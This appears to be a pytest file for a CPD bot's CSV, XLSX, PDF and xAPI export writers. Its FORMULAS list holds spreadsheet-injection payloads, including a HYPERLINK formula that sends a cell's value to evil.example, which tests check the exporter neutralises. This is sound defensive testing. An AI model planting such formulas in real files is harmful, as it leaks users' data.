"""The export writers, read back by the tools an appraiser or an LRS would use."""

from __future__ import annotations

import csv
import io
import json
import uuid
import zipfile
from collections.abc import Iterable, Iterator
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any, BinaryIO, cast
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from pypdf import PdfReader

from bot.exports import xlsx_export
from bot.exports.columns import COLUMNS, cells, reflection_text
from bot.exports.csv_export import csv_text, write_csv
from bot.exports.pdf_export import _Document, write_pdf
from bot.exports.rows import Portfolio, RecordRow
from bot.exports.safe_cells import SUSPECT_FIRST, cell_text
from bot.exports.xapi import problems, statement, write_statements
from bot.exports.xlsx_export import write_xlsx
from tests.support.pdf_glyphs import drawn_characters

RISKY = frozenset("=+-@\t\r\n")
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1:A2)",
            "\t=1", "\r=1", "\n=1", "  =1+1"]  # fmt: skip
HOME = "https://cpd.example.org"
SECTIONS = (("What happened", "Пациент с сепсисом, лактат 4"), ("What I learned", "Repeat at 2 h"))
# The CSV and XLSX columns as the README documents them, spelled out here rather than read
# from bot/exports/columns.py, so that dropping, renaming or reordering one fails a test.
DOCUMENTED_COLUMNS = (
    "record_id", "user_id", "user_name", "activity_date", "title", "activity_type",
    "activity_name", "category", "category_name", "minutes", "hours", "credits", "unit",
    "framework", "source", "ai_assisted", "explanation", "tags", "recorded_at", "evidence",
    "organisation", "staff_number",
)  # fmt: skip
WITH_REFLECTION = (*DOCUMENTED_COLUMNS, "reflection")  # the text, last, only when included


def record(**changes: Any) -> RecordRow:
    base = RecordRow(
        record_id=1,
        user_id=424242,
        user_name="Мария Иванова",
        activity_date=date(2024, 5, 1),
        title="Чтение: сепсис у взрослых",
        activity_type="reading",
        activity_name="Reading, podcast or e-learning",
        category="clinical",
        category_name="Клиническая практика",
        minutes=90,
        credits=Decimal("1.5"),
        unit="credit",
        framework_id="ru_nmo",
        source="reflection",
        ai_assisted=True,
        explanation="1 credit per hour, capped at 50",
        tags=("sepsis", "icu"),
        reflection=SECTIONS,
        template_id="gibbs",
        recorded_at="2024-05-01T09:30:15Z",
    )
    return base._replace(**changes)


def sample() -> list[RecordRow]:
    """Rows with every awkward thing an export has met or could meet."""
    rows = [
        record(),
        record(record_id=2, title="Guía clínica: diabetes, año 2024 — señales", minutes=None,
               ai_assisted=False, reflection=None, user_name="José Núñez", credits=Decimal(2)),
        record(record_id=3, title="Webinar 💊🩺 on stewardship", activity_type="event",
               minutes=45, credits=Decimal("0.75")),
        record(record_id=4, title="مراجعة الحالة السريرية", activity_type="feedback", minutes=20),
        record(record_id=5, title="x" * 4096, explanation='says "quoted", with\nnew line'),
        record(record_id=6, title="bell\x07 and \x0bvtab", tags=(), credits=Decimal("1E+1")),
        record(record_id=7, recorded_at="2024-05-01T09:00:00Z", activity_type="other"),
    ]  # fmt: skip
    rows += [record(record_id=100 + n, title=title) for n, title in enumerate(FORMULAS)]
    return rows


# --- safe_cells ----------------------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS)
def test_formulas_get_an_apostrophe(value: str) -> None:
    assert cell_text(value) == "'" + value


@pytest.mark.parametrize("value", ["", "plain", " leading space", "1.5", "a=b", "'quoted"])
def test_plain_text_is_unchanged(value: str) -> None:
    assert cell_text(value) == value


@given(st.text())
def test_cell_text_never_starts_a_formula(value: str) -> None:
    safe = cell_text(value)
    assert safe[:1] not in RISKY
    assert safe.lstrip()[:1] not in RISKY or safe.startswith("'")
    assert safe in (value, "'" + value)


@given(st.text(min_size=1).filter(lambda text: text[0] not in SUSPECT_FIRST))
def test_text_with_a_safe_first_character_is_unchanged(value: str) -> None:
    assert cell_text(value) == value


# --- shared columns ------------------------------------------------------------------------


def test_the_columns_are_the_documented_ones() -> None:
    assert COLUMNS == DOCUMENTED_COLUMNS


def test_cells_follow_the_columns() -> None:
    values = cells(record(), with_reflection=True)
    # Each documented column holds its own value: a swap of two columns fails here too.
    assert dict(zip(WITH_REFLECTION, values, strict=True)) == {
        "record_id": 1, "user_id": 424242, "user_name": "Мария Иванова",
        "activity_date": date(2024, 5, 1), "title": "Чтение: сепсис у взрослых",
        "activity_type": "reading", "activity_name": "Reading, podcast or e-learning",
        "category": "clinical", "category_name": "Клиническая практика", "minutes": 90,
        "hours": 1.5, "credits": Decimal("1.5"), "unit": "credit", "framework": "ru_nmo",
        "source": "reflection", "ai_assisted": True,
        "explanation": "1 credit per hour, capped at 50", "tags": "sepsis icu",
        "recorded_at": "2024-05-01T09:30:15Z", "evidence": "", "organisation": "",
        "staff_number": "",
        "reflection": ("What happened: Пациент с сепсисом, лактат 4\n\n"
                       "What I learned: Repeat at 2 h"),
    }  # fmt: skip
    assert len(cells(record(), with_reflection=False)) == len(DOCUMENTED_COLUMNS)


# --- CSV -----------------------------------------------------------------------------------


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def csv_of(rows: list[RecordRow], with_reflection: bool) -> str:
    out = io.StringIO(newline="")
    assert write_csv(rows, out, with_reflection=with_reflection) == len(rows)
    return out.getvalue()


def test_csv_header_and_values() -> None:
    rows = sample()
    text = csv_of(rows, with_reflection=False)
    assert text.splitlines()[0].split(",") == list(DOCUMENTED_COLUMNS)
    assert text.endswith("\r\n")
    parsed = read_csv(text)
    assert len(parsed) == len(rows)
    first, second = parsed[0], parsed[1]
    assert first["record_id"] == "1" and first["user_id"] == "424242"
    assert first["activity_date"] == "2024-05-01"
    assert first["minutes"] == "90" and first["hours"] == "1.5"
    assert first["credits"] == "1.5" and float(first["credits"]) == 1.5
    assert first["ai_assisted"] == "true" and second["ai_assisted"] == "false"
    assert first["tags"] == "sepsis icu"
    assert first["recorded_at"] == "2024-05-01T09:30:15Z"
    assert first["title"] == "Чтение: сепсис у взрослых"
    assert second["minutes"] == "" and second["hours"] == "" and second["credits"] == "2"
    assert parsed[2]["title"] == "Webinar 💊🩺 on stewardship"
    assert parsed[3]["title"] == "مراجعة الحالة السريرية" and parsed[3]["hours"] == "0.33"
    assert parsed[4]["title"] == "x" * 4096
    assert parsed[4]["explanation"] == 'says "quoted", with\nnew line'
    assert parsed[5]["credits"] == "10"
    assert parsed[6]["recorded_at"] == "2024-05-01T09:00:00Z"
    assert "reflection" not in first


def test_csv_cells_never_start_a_formula() -> None:
    parsed = read_csv(csv_of(sample(), with_reflection=True))
    for line in parsed:
        for value in line.values():
            assert value[:1] not in RISKY
            assert value.lstrip()[:1] not in RISKY or value.startswith("'")
    titles = {line["record_id"]: line["title"] for line in parsed}
    for n, formula in enumerate(FORMULAS):
        assert titles[str(100 + n)] == "'" + formula


def test_csv_reflection_column() -> None:
    text = csv_of(sample()[:2], with_reflection=True)
    assert text.splitlines()[0].split(",") == list(WITH_REFLECTION)
    parsed = read_csv(text)
    assert parsed[0]["reflection"] == (
        "What happened: Пациент с сепсисом, лактат 4\n\nWhat I learned: Repeat at 2 h"
    )
    assert parsed[1]["reflection"] == ""


@given(st.lists(st.text(alphabet=st.characters(blacklist_characters="\x00")), max_size=6))
def test_csv_quoting_is_what_csv_writer_writes(texts: list[str]) -> None:
    safe = [csv_text(text) for text in texts]
    expected = io.StringIO(newline="")
    csv.writer(expected).writerow([*(cell_text(text) for text in texts), "end"])
    assert ",".join([*safe, "end"]) + "\r\n" == expected.getvalue()


@given(st.text(alphabet=st.characters(blacklist_characters="\x00")))
def test_csv_round_trips_any_title(title: str) -> None:
    parsed = read_csv(csv_of([record(title=title, reflection=((title, title),))], True))
    assert parsed[0]["title"] == cell_text(title)
    assert parsed[0]["reflection"] == cell_text(f"{title}: {title}")


def test_csv_streams() -> None:
    out = io.StringIO(newline="")
    seen_before_end: list[int] = []

    def rows() -> Iterator[RecordRow]:
        for n in range(3000):
            yield record(record_id=n)
        seen_before_end.append(out.tell())

    assert write_csv(rows(), out, with_reflection=False) == 3000
    assert seen_before_end[0] > 0  # lines went out while rows were still coming


# --- XLSX ----------------------------------------------------------------------------------


def xlsx_of(rows: list[RecordRow], with_reflection: bool) -> bytes:
    out = io.BytesIO()
    assert write_xlsx(rows, out, with_reflection=with_reflection) == len(rows)
    return out.getvalue()


def sheets_of(data: bytes) -> dict[str, list[tuple[object, ...]]]:
    """Each sheet's rows; a streamed sheet has no <dimension>, so short rows are padded."""
    book = load_workbook(io.BytesIO(data), read_only=True)
    try:
        sheets = {}
        for sheet in book.worksheets:
            rows = [tuple(c.value for c in row) for row in sheet.iter_rows()]
            width = len(rows[0])
            sheets[sheet.title] = [row + (None,) * (width - len(row)) for row in rows]
        return sheets
    finally:
        book.close()


def test_xlsx_values_are_typed() -> None:
    rows = sample()
    (records,) = sheets_of(xlsx_of(rows, with_reflection=True)).values()
    assert records[0] == WITH_REFLECTION
    assert len(records) == len(rows) + 1
    by_id = {line[0]: dict(zip(records[0], line, strict=True)) for line in records[1:]}
    first = by_id[1]
    assert first["user_id"] == 424242
    assert first["activity_date"] == datetime(2024, 5, 1)  # a real date, read as datetime
    assert first["minutes"] == 90 and first["hours"] == 1.5 and first["credits"] == 1.5
    assert first["ai_assisted"] is True and by_id[2]["ai_assisted"] is False
    assert first["title"] == "Чтение: сепсис у взрослых"
    assert first["recorded_at"] == "2024-05-01T09:30:15Z"
    assert first["reflection"] == reflection_text(SECTIONS)
    assert by_id[2]["minutes"] is None and by_id[2]["hours"] is None
    assert by_id[2]["credits"] == 2 and by_id[2]["reflection"] is None
    assert by_id[3]["title"] == "Webinar 💊🩺 on stewardship"
    assert by_id[4]["title"] == "مراجعة الحالة السريرية"
    assert by_id[5]["title"] == "x" * 4096
    assert by_id[5]["explanation"] == 'says "quoted", with\nnew line'
    assert by_id[6]["title"] == "bell and vtab"  # controls XML cannot hold are dropped
    assert by_id[6]["credits"] == 10
    for n, formula in enumerate(FORMULAS):
        expected = formula.replace("\r", "\n")  # XML reads a lone CR as a line feed
        assert by_id[100 + n]["title"] == expected


def test_xlsx_formula_text_stays_text_and_dates_are_formatted() -> None:
    book = load_workbook(io.BytesIO(xlsx_of(sample(), with_reflection=False)), read_only=True)
    sheet = book.worksheets[0]
    found = 0
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str) and cell.value.startswith("="):
                found += 1
        assert row[3].is_date and row[3].number_format == "yyyy-mm-dd"
    book.close()
    assert found >= 1


def test_xlsx_package_is_well_formed() -> None:
    with zipfile.ZipFile(io.BytesIO(xlsx_of(sample(), with_reflection=True))) as package:
        names = set(package.namelist())
        assert {
            "[Content_Types].xml", "_rels/.rels", "xl/workbook.xml",
            "xl/_rels/workbook.xml.rels", "xl/styles.xml", "xl/worksheets/sheet1.xml",
        } <= names  # fmt: skip
        for name in names:
            ElementTree.fromstring(package.read(name))


def test_xlsx_cuts_text_at_excels_cell_limit() -> None:
    long = (("Notes", "ё" * 40_000),)
    (records,) = sheets_of(xlsx_of([record(reflection=long)], with_reflection=True)).values()
    cell = records[1][-1]
    assert isinstance(cell, str) and len(cell) == xlsx_export.CELL_CHARS


@pytest.mark.parametrize(("count", "sheets"), [(0, [0]), (3, [3]), (6, [3, 3]), (7, [3, 3, 1])])
def test_xlsx_continues_on_a_new_sheet(
    monkeypatch: pytest.MonkeyPatch, count: int, sheets: list[int]
) -> None:
    monkeypatch.setattr(xlsx_export, "SHEET_ROWS", 4)  # a header and three records
    rows = [record(record_id=n) for n in range(count)]
    book = sheets_of(xlsx_of(rows, with_reflection=False))
    assert [len(lines) - 1 for lines in book.values()] == sheets
    assert list(book)[:2] == ["Records", "Records 2"][: len(sheets)]
    assert all(lines[0] == DOCUMENTED_COLUMNS for lines in book.values())
    ids = [line[0] for lines in book.values() for line in lines[1:]]
    assert ids == list(range(count))


class _Pipe(io.RawIOBase):
    """A write-only stream that cannot seek or tell, like a socket."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, chunk: bytes) -> int:  # type: ignore[override]
        self.data += chunk
        return len(chunk)


def test_xlsx_to_an_unseekable_stream_and_to_a_path(tmp_path: Path) -> None:
    pipe = _Pipe()
    # A raw stream, not typed as BinaryIO, yet all the zip writer needs: that is the point.
    assert write_xlsx(sample(), cast(BinaryIO, pipe), with_reflection=False) == len(sample())
    assert len(sheets_of(bytes(pipe.data))["Records"]) == len(sample()) + 1
    path = tmp_path / "records.xlsx"
    write_xlsx(iter(sample()), path, with_reflection=False)
    assert len(sheets_of(path.read_bytes())["Records"]) == len(sample()) + 1


# --- PDF -----------------------------------------------------------------------------------


def portfolio(entries: Iterable[RecordRow], language: str = "en") -> Portfolio:
    return Portfolio(
        language=language,
        name="Иванова Мария Петровна",
        framework_name="НМО (Россия)",
        unit_name="credits",
        period_from=date(2024, 1, 1),
        period_to=date(2024, 12, 31),
        totals=[("Клиническая практика", Decimal("12.5")), ("Teaching", Decimal(3))],
        total=Decimal("15.5"),
        entries=entries,
    )


def pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def test_pdf_has_cover_entries_and_marks() -> None:
    rows = sample()
    out = io.BytesIO()
    count = write_pdf(portfolio(iter(rows)), out, generated=date(2025, 1, 31))
    assert count == len(rows)
    text = pdf_text(out.getvalue())
    expected = ["Иванова Мария Петровна", "НМО (Россия)", "Клиническая практика", "15.5",
                "Чтение: сепсис у взрослых", "Guía clínica", "AI-assisted", "1 h 30 min",
                "What happened", "Пациент с сепсисом", "January 31, 2025", "Page 1 of"]  # fmt: skip
    for words in expected:
        assert words in text, words
    assert text.count("AI-assisted") == sum(row.ai_assisted for row in rows)


def test_pdf_leaves_out_unshared_reflections() -> None:
    out = io.BytesIO()
    write_pdf(portfolio([record(reflection=None, ai_assisted=False)]), out)
    text = pdf_text(out.getvalue())
    assert "Чтение: сепсис у взрослых" in text
    assert "What happened" not in text and "AI-assisted" not in text


def test_pdf_without_entries() -> None:
    out = io.BytesIO()
    assert write_pdf(portfolio([], language="ru"), out) == 0
    assert "Иванова Мария Петровна" in pdf_text(out.getvalue())


def test_pdf_lines_fit_the_page() -> None:
    pdf = _Document("{page}/{pages}")
    pdf.add_page()
    pdf.set_font("DejaVu", "", 10)
    width = pdf.epw - 2 * pdf.c_margin
    text = "Лактат повторить через 2 часа. " * 40 + "\n\n" + "ё" * 500 + " end"
    lines = list(pdf._lines(text, width))
    assert all(pdf.get_string_width(line) <= width + 1e-6 for line in lines)
    assert "".join(" ".join(lines).split()) == "".join(text.split())  # the long word, broken
    assert max(len(line) for line in lines) < 200
    assert "" in lines  # the blank line between paragraphs stays


# --- xAPI ----------------------------------------------------------------------------------


def test_statements_pass_the_checker() -> None:
    for row in sample():
        made = statement(row, home_page=HOME, language="ru")
        assert problems(made) == [], (row.record_id, problems(made))
        json.dumps(made)


def test_statement_content() -> None:
    made = statement(record(), home_page=HOME + "/", language="ru")
    assert uuid.UUID(made["id"]).version == 5
    assert made["id"] == statement(record(), home_page=HOME)["id"]
    assert made["id"] != statement(record(record_id=2), home_page=HOME)["id"]
    assert made["actor"] == {
        "objectType": "Agent", "account": {"homePage": HOME, "name": "424242"},
    }  # fmt: skip
    assert made["verb"]["id"] == "http://adlnet.gov/expapi/verbs/experienced"
    assert made["object"]["id"] == f"{HOME}/activities/1"
    assert made["object"]["definition"]["name"] == {"ru": "Чтение: сепсис у взрослых"}
    assert made["object"]["definition"]["type"] == "http://adlnet.gov/expapi/activities/media"
    result = made["result"]
    assert result["completion"] is True and result["duration"] == "PT1H30M"
    assert result["response"] == reflection_text(SECTIONS)
    assert result["extensions"] == {
        f"{HOME}/xapi/credits": 1.5, f"{HOME}/xapi/unit": "credit",
        f"{HOME}/xapi/category": "clinical", f"{HOME}/xapi/framework": "ru_nmo",
        f"{HOME}/xapi/ai-assisted": True,
    }  # fmt: skip
    assert made["context"] == {"platform": "cpdbot", "language": "ru"}
    assert made["timestamp"] == "2024-05-01T00:00:00Z"
    assert "Мария" not in json.dumps(made["actor"], ensure_ascii=False)


@pytest.mark.parametrize(
    ("changes", "duration", "kind"),
    [
        ({"minutes": 45, "activity_type": "event"}, "PT45M", "activities/meeting"),
        ({"minutes": 120, "activity_type": "feedback"}, "PT2H", "activities/assessment"),
        ({"minutes": None, "activity_type": "other"}, None, f"{HOME}/xapi/activity-types/other"),
    ],
)
def test_statement_duration_and_type(changes: dict, duration: str | None, kind: str) -> None:
    made = statement(record(**changes), home_page=HOME)
    assert made["result"].get("duration") == duration
    assert made["object"]["definition"]["type"].endswith(kind)


def test_statement_leaves_out_unshared_reflection() -> None:
    made = statement(record(reflection=None, credits=Decimal(2)), home_page=HOME)
    assert "response" not in made["result"]
    assert made["result"]["extensions"][f"{HOME}/xapi/credits"] == 2


def test_write_statements_streams_a_json_array() -> None:
    out = io.StringIO()
    assert write_statements(sample(), out, home_page=HOME, language="es") == len(sample())
    parsed = json.loads(out.getvalue())
    assert len(parsed) == len(sample()) and all(problems(s) == [] for s in parsed)
    empty = io.StringIO()
    assert write_statements([], empty, home_page=HOME) == 0
    assert json.loads(empty.getvalue()) == []


def _broken(path: str, value: object) -> dict:
    made = statement(record(), home_page=HOME)
    *parents, last = path.split(".")
    target = made
    for key in parents:
        target = target[key]
    if value is KeyError:
        del target[last]
    else:
        target[last] = value
    return made


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("verb", KeyError),
        ("actor", KeyError),
        ("object", KeyError),
        ("id", "not-a-uuid"),
        ("verb.id", "experienced"),
        ("verb.display", {"english": "experienced"}),
        ("object.id", "/activities/1"),
        ("object.definition.type", "meeting"),
        ("object.definition.name", {"en_US": "Title"}),
        ("result.duration", "1h30m"),
        ("result.duration", "PT"),
        ("result.completion", "yes"),
        ("result.extensions", {"credits": 1.5}),
        ("context.language", "english"),
        ("timestamp", "2024-05-01T00:00:00"),
        ("timestamp", "2024-13-01T00:00:00Z"),
        ("actor.mbox", "mailto:doctor@example.org"),
        ("actor.account", {"homePage": "cpd.example.org", "name": "1"}),
        ("stated", "extra"),
    ],
)
def test_checker_finds_broken_statements(path: str, value: object) -> None:
    assert problems(_broken(path, value))


def test_pdf_draws_georgian_kazakh_and_azerbaijani_letters() -> None:
    texts = {"ka": "ნათია ჯაფარიძე: უწყვეტი პროფესიული განვითარება",
             "az": "Davamlı peşəkar inkişaf: Əliyeva Gülşən, İsmayıllı",
             "kk": "Үздіксіз кәсіби даму: Қалиева Әйгерім, Өскемен"}
    out = io.BytesIO()
    write_pdf(Portfolio(
        language="en", name=texts["ka"], framework_name=texts["az"], unit_name="credits",
        period_from=date(2026, 1, 1), period_to=date(2026, 12, 31),
        totals=[(texts["kk"], Decimal(2))], total=Decimal(2),
        entries=[record(title=texts["ka"], activity_name=texts["az"])]), out)
    drawn = drawn_characters(out.getvalue())
    for language, text in texts.items():
        missing = {c for c in text if c.isalpha() and c not in drawn}
        assert not missing, (language, sorted(missing))
